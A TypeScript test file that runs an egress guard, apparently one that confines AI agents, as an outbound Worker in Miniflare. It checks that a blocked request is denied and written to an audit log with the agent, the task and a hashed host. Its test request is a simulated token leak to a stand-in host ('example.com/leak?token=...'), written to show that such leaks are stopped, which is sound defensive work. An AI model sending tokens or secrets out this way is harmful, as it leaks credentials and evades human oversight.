/**
 * Namespace mode in production: Workers for Platforms hands the outbound
 * Worker the dispatch's outbound parameters as env (`agent`, `task`). This
 * runs the egress guard exactly so, alone in workerd with its D1, and checks
 * the row names both.
 */
import { join } from "node:path";
import { convertV4MiniflareOptions, Miniflare } from "miniflare";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { bundleWorker } from "../tools/local/bundle.ts";
import { applyMigrations } from "../tools/local/migrate.ts";
import { COMPATIBILITY_DATE, ROOT } from "../tools/local/system.ts";

let mf: Miniflare;
beforeAll(async () => {
  const guard = await bundleWorker(join(ROOT, "src/egress/index.ts"), {
    agents: [],
    templates: [],
    roles: [],
    tools: [],
  });
  mf = new Miniflare(
    convertV4MiniflareOptions({
      name: "siloos-egress",
      compatibilityDate: COMPATIBILITY_DATE,
      modules: [{ type: "ESModule", path: guard.path, contents: guard.contents }],
      d1Databases: { DB: "siloos" },
      // What the platform sets from dispatcher.get(name, {}, { outbound: { agent, task } }).
      bindings: { agent: "refund-agent", task: "tsk_0123456789abcdef01234567" },
    }),
  );
  await mf.ready;
  await applyMigrations((await mf.getD1Database("DB")) as unknown as D1Database, join(ROOT, "migrations"));
});
afterAll(() => mf?.dispose());

describe("the egress guard as a dispatch namespace's outbound Worker", () => {
  it("denies and audits with the agent and the task from the outbound parameters", async () => {
    const res = await mf.dispatchFetch("https://example.com/leak?token=[EMAIL_1]");
    expect(res.status).toBe(403);
    expect(await res.json()).toMatchObject({ error: "egress_denied" });
    const db = (await mf.getD1Database("DB")) as unknown as D1Database;
    const row = await db
      .prepare("SELECT task_id, actor, event, reason, detail FROM audit_log ORDER BY seq DESC LIMIT 1")
      .first<Record<string, string>>();
    expect(row).toMatchObject({
      task_id: "tsk_0123456789abcdef01234567",
      actor: "agent:refund-agent",
      event: "egress.denied",
      reason: "egress_denied",
    });
    // The host the agent chose is kept as a length and a hash (test/agent-text-in-the-audit-log.test.ts).
    expect(JSON.parse(row!.detail!)).toEqual({
      method: "GET",
      host: { chars: 11, sha256: expect.stringMatching(/^[0-9a-f]{16}$/) },
      scheme: "https:",
    });
  });
});
